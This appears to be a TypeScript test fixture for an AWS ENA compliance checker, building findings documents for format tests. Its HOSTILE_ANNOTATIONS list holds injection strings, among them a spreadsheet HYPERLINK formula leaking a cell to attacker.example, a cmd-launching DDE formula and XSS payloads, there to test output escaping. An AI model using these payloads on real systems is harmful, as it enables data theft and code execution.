/**
 * Findings documents for the format tests: one built the way the CLI builds it (the real checks
 * over the demo fleet snapshot, spread over two accounts and Regions), and hostile findings whose
 * text tries to break out of each format.
 */
import { fileURLToPath } from 'node:url';
import { RULES } from '../../../rules/registry.js';
import { allChecks } from '../../../src/checks/index.js';
import { runCheck, type RuleRun } from '../../../src/cli/run-checks.js';
import { FINDINGS_SCHEMA_VERSION, countVerdicts, findingsOf, type Finding, type FindingsDocument } from '../../../src/cli/findings.js';
import { silentLog } from '../../../src/engine/ports.js';
import { snapshotSources } from '../../../src/facts/sources.js';

export const DEMO_FLEET = fileURLToPath(new URL('../../../examples/demo-fleet', import.meta.url));
export const GENERATED_AT = '2026-06-01T09:30:00.000Z';
export const SCOPES = [
  { accountId: '111111111111', region: 'eu-west-1' },
  { accountId: '222222222222', region: 'us-east-1' },
] as const;

/** Runbooks by rule, as the CLI derives them from the declarations. */
export const RUNBOOKS: Readonly<Record<string, string>> = Object.fromEntries(RULES.flatMap((rule) => (rule.remediation ? [[rule.id, rule.remediation.document]] : [])));

export function documentOf(findings: readonly Finding[], runs: FindingsDocument['runs'] = []): FindingsDocument {
  return {
    schemaVersion: FINDINGS_SCHEMA_VERSION,
    tool: { name: 'ena-guard', version: '0.1.0' },
    generatedAt: GENERATED_AT,
    source: { kind: 'live' },
    summary: countVerdicts(findings),
    runs,
    findings,
  };
}

/** The demo fleet checked by every rule, as if it ran in each of SCOPES; the second scope's last rule did not complete. */
export async function demoDocument(): Promise<FindingsDocument> {
  const now = () => new Date(GENERATED_AT);
  const runs: RuleRun[] = [];
  for (const spec of allChecks(snapshotSources(DEMO_FLEET, now))) runs.push(await runCheck(spec, {}, silentLog));
  const scoped = SCOPES.flatMap((scope) => runs.map((run) => ({ ...run, ...scope })));
  const records = scoped.map((run, index) => ({
    rule: run.ruleName,
    accountId: run.accountId,
    region: run.region,
    complete: index !== scoped.length - 1,
    ...(index === scoped.length - 1 ? { error: 'DescribeImages was throttled' } : {}),
  }));
  return documentOf(findingsOf(scoped, RUNBOOKS), records);
}

export function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    rule: 'ena-instance-enabled',
    accountId: '111111111111',
    region: 'eu-west-1',
    resourceType: 'AWS::EC2::Instance',
    resourceId: 'i-0123456789abcdef0',
    subject: 'm5.large',
    verdict: 'NON_COMPLIANT',
    annotation: 'enaSupport is false on an instance type that supports ENA.',
    reasons: ['ENA_DISABLED'],
    runbook: 'EnaGuard-EnableEnaSupport',
    ...overrides,
  };
}

export const HOSTILE_ANNOTATIONS = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"click me")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3',
  '+1+1',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  'line one\nline two',
  'she said "hello", then left',
  '<script>window.pwned = true</script>',
  '<img src="https://attacker.example/x.png" onerror="window.pwned = true">',
] as const;
